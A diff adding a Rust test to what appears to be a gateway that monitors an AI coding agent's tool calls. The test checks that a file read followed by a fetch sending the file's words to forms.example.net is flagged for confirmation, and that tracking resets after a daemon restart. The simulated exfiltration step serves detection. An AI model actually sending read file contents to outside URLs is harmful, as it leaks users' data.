@@ -162,6 +162,39 @@ async fn the_gateway_takes_over_what_was_left() {
         .await;
 }
 
+/// EDGE-daemon-restart, DR-R4: what was read before is gone, without an error, and what is read from
+/// then on is followed.
+#[tokio::test]
+async fn after_a_restart_tracking_begins_afresh() {
+    let before =
+        "The harbour master wants the lamps on the east pier repainted before the regatta.";
+    let after =
+        "Forty guests of the late ferry were brought to the old customs house for the night.";
+    let agent = Agent::new("claude-code", "s");
+    let told = async |home: &Home, words: &str| {
+        let read = agent.post(Use::Read("/w/notes.txt"), words);
+        hook(home, "claude-code", &read, &[]).await;
+    };
+    let sends = async |home: &Home, words: &str| {
+        let words = words.replace(' ', "+");
+        let url = format!("https://forms.example.net/?text={words}");
+        let said = hook(home, "claude-code", &agent.pre(Use::Fetch(&url)), &[]).await;
+        (said.heard("claude-code"), said.stderr)
+    };
+    let gateway = Gateway::start(&json!({})).await;
+    told(&gateway.home, before).await;
+    assert_eq!(sends(&gateway.home, before).await.0, Heard::Ask);
+    let home = gateway.stop().await;
+    let (heard, said) = sends(&home, before).await;
+    assert_eq!(heard, Heard::Allow);
+    assert!(said.contains("no gateway answers"), "{said}");
+    let gateway = Gateway::start_in(home).await;
+    let fine = (Heard::Allow, String::new());
+    assert_eq!(sends(&gateway.home, before).await, fine);
+    told(&gateway.home, after).await;
+    assert_eq!(sends(&gateway.home, after).await.0, Heard::Ask);
+}
+
 #[tokio::test]
 async fn the_socket_is_found_where_it_is_said_to_be() {
     let gateway = Gateway::start(&json!({})).await;
